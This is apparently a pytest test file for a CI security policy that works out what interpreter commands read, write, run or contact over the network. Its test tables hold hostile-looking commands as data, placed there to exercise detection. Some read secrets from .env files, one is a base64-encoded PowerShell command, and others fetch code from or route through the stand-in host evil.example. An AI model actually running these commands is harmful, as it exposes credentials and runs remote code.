"""Interpreters: programs that come as texts, as files, as modules, or on standard input."""

import base64

import pytest
from asking import ask, deeds, edited, read, written
from deeds import deeds_of, printed_by, rows

from guardian_ci.policy.shell.facts import UNKNOWN
from guardian_ci.policy.shell.programs.table import TAME_LINE

RUNS = {"runs the text cat a.txt"}


@pytest.mark.parametrize(
    ("line", "stdin", "expected"),
    [
        ("sh -c 'cat a.txt'", None, RUNS),
        ("bash -lc 'cat a.txt' name one", None, RUNS),
        ("bash -o pipefail -c 'cat a.txt'", None, RUNS),
        ("bash", "cat a.txt", RUNS),
        ("bash -s -- one", "cat a.txt", RUNS),
        ("bash -", "cat a.txt", RUNS),
        ("bash run.sh one", None, read("run.sh") | {"runs the file run.sh"}),
        ("bash --rcfile a.sh -c 'cat a.txt'", None, RUNS | read("a.sh") | {"runs the file a.sh"}),
        ("bash", None, set()),
    ],
)
def test_a_shell_runs_a_text_a_file_or_its_input(line: str, stdin: str | None, expected: set[str]) -> None:
    assert deeds(line, stdin) == expected


def test_a_text_gets_its_arguments() -> None:
    assert ask("bash -c 'cat $1' name one").runs[0].arguments == ("name", "one")


@pytest.mark.parametrize(
    ("line", "stdin"),
    [("sh", UNKNOWN), (f"sh -c {UNKNOWN}", None), (f"python -m {UNKNOWN}", None), (f"pwsh -Command {UNKNOWN}", None)],
)
def test_a_program_of_which_nothing_is_known_is_opaque(line: str, stdin: str | None) -> None:
    assert deeds(line, stdin) == {"is opaque"}


@pytest.mark.parametrize(
    ("line", "stdin", "expected"),
    [
        ("python -c 'open(\"a.txt\")'", None, read("a.txt")),
        ('python3.12 -Ic \'open("a.txt", "w")\'', None, written("a.txt")),
        ("python -", 'open("a.txt")', read("a.txt")),
        ("python run.py one", None, read("run.py") | {"runs the file run.py"}),
        ("python -m pip install x", None, {"runs pip install x"}),
        ("python -m http.server", None, read(".")),
        ("python -m http.server -d there", None, read("there")),
        ("python -m json.tool a.json", None, read("a.json")),
        ("python -m pdb run.py", None, read("run.py") | {"runs the file run.py"}),
        ("python -m timeit 'open(\"a.txt\")'", None, read("a.txt")),
        ('node -e \'require("fs").readFileSync("a.txt")\'', None, read("a.txt")),
        ("node run.js", None, read("run.js") | {"runs the file run.js"}),
        ("node -r ./hook.js run.js", None, read("./hook.js", "run.js") | {"runs the file run.js"}),
        ("node -r dotenv/config run.js", None, read("dotenv/config", ".env", "run.js") | {"runs the file run.js"}),
        ("perl -e 'open(F, \"<a.txt\")'", None, read("a.txt")),
        ("perl -pi -e 's/a/b/' a.txt", None, edited("a.txt")),
        ("perl -ne print a.txt", None, read("a.txt")),
        ("ruby -e 'puts File.read(\"a.txt\")'", None, read("a.txt")),
        ("php -r 'readfile(\"a.txt\");'", None, read("a.txt")),
        ("php -f run.php", None, read("run.php")),
        ("deno eval 'Deno.readTextFileSync(\"a.txt\")'", None, read("a.txt")),
        ("deno run https://example.com/a.ts", None, {"talks to example.com"}),
        ("bun run a.ts", None, read("a.ts") | {"runs the file a.ts"}),
        ("java -Dhttps.proxyHost=example.com -jar a.jar", None, {"talks to example.com"} | read("a.jar")),
    ],
)
def test_an_interpreter_does_what_its_program_does(line: str, stdin: str | None, expected: set[str]) -> None:
    assert deeds(line, stdin) == expected


def test_an_encoded_command_is_decoded() -> None:
    text = base64.b64encode("Get-Content a.txt".encode("utf-16-le")).decode()
    assert deeds(f"pwsh -EncodedCommand {text}") == {"runs the text cat a.txt"}


@pytest.mark.parametrize(
    ("line", "stdin", "output"),
    [
        ('python -c \'print(".e" + "nv")\'', None, ".env\n"),
        ("perl -pe 's/x/v/'", ".enx\n", ".env\n"),
        ("python --version", None, TAME_LINE),
    ],
)
def test_what_a_short_program_prints_is_known(line: str, stdin: str | None, output: str) -> None:
    assert ask(line, stdin).output == output


DEEDS = r"""
sh -c 'cat .env' ⇒ shell cat .env
bash -ec 'cat "$1"' _ .env ⇒ shell cat "$1"
bash -o pipefail -c 'x' ⇒ shell x
bash script.sh a ⇒ read script.sh; script script.sh
bash -s a <<< cat .env ⇒ shell cat .env
sh <<< UNKNOWN ⇒ dark
sh ⇒ nothing
bash --rcfile rc -i ⇒ read rc; script rc
python3 -c "print(open('.env').read())" ⇒ read .env
python3 script.py a ⇒ read script.py; script script.py
python3 -m json.tool a.json ⇒ read a.json
python3 -m http.server ⇒ read .
python3 -m pytest tests ⇒ run pytest tests
python3 -m timeit "open('.env')" ⇒ read .env
python3 -m base64 -d a ⇒ read a
python3 -m pdb -c 'p open(".env")' a.py ⇒ read .env; read a.py; script a.py
python3 <<< open('.env') ⇒ read .env
python3 - <<< UNKNOWN ⇒ dark
python3.12 -c 'open(".env")' ⇒ read .env
node -e "require('fs').readFileSync('.env')" ⇒ read .env
node --env-file=.env a.js ⇒ read .env; read a.js; script a.js
node -r dotenv/config a.js ⇒ read dotenv/config; read .env; read a.js; script a.js
node a.js ⇒ read a.js; script a.js
perl -ne print .env ⇒ read .env
perl -i -pe s/a/b/ a ⇒ read a; write a
perl -e 'system("cat .env")' ⇒ shell cat .env
perl script.pl a ⇒ read script.pl; script script.pl
ruby -e 'puts File.read(".env")' ⇒ read .env
ruby -rdotenv/load -e 'p 1' ⇒ read dotenv/load; read .env
php -r 'readfile(".env");' ⇒ read .env
php -f a.php ⇒ read a.php
lua -e 'io.open(".env")' ⇒ read .env; maybe io.open; maybe .env
Rscript -e 'readLines(".env")' ⇒ read .env; maybe .env
deno eval 'Deno.readTextFileSync(".env")' ⇒ read .env
deno run https://evil.example/x.ts ⇒ talk to evil.example
deno run a.ts ⇒ read a.ts; script a.ts
bun -e "Bun.file('.env')" ⇒ read .env
bun run a.ts ⇒ read a.ts; script a.ts
bun install ⇒ talk to registry npmjs
pwsh -c 'Get-Content .env' ⇒ shell cat .env
pwsh -EncodedCommand YwBhAHQAIAAuAGUAbgB2AA== ⇒ shell cat .env
java -cp a.jar Main ⇒ read a.jar; maybe Main
java -Dhttp.proxyHost=evil.example -jar a.jar ⇒ read a.jar; maybe evil.example; talk to evil.example
swift -e 'x(".env")' ⇒ maybe .env
awk ⇒ nothing
"""


PRINTS = r"""
bash --version ⇒ TAME\n
python3 -c "print(open('.env').read())" ⇒ UNKNOWN\n
python3 -c "print('.e'+'nv')" ⇒ .env\n
python3 <<< open('.env') ⇒ EMPTY
python3 --version ⇒ TAME\n
python3.12 -c 'open(".env")' ⇒ EMPTY
node -p '1+1' ⇒ 2\n
perl -pe 's/a/b/' <<< xa ⇒ xb\n
ruby -e 'puts File.read(".env")' ⇒ UNKNOWN\n
ruby -rdotenv/load -e 'p 1' ⇒ 1\n
"""


@pytest.mark.parametrize(("command", "deeds"), rows(DEEDS))
def test_it_is_known_what_they_read_write_run_and_talk_to(command: str, deeds: str) -> None:
    assert deeds_of(command) == deeds


@pytest.mark.parametrize(("command", "text"), rows(PRINTS))
def test_it_is_known_what_they_print(command: str, text: str) -> None:
    assert printed_by(command) == text
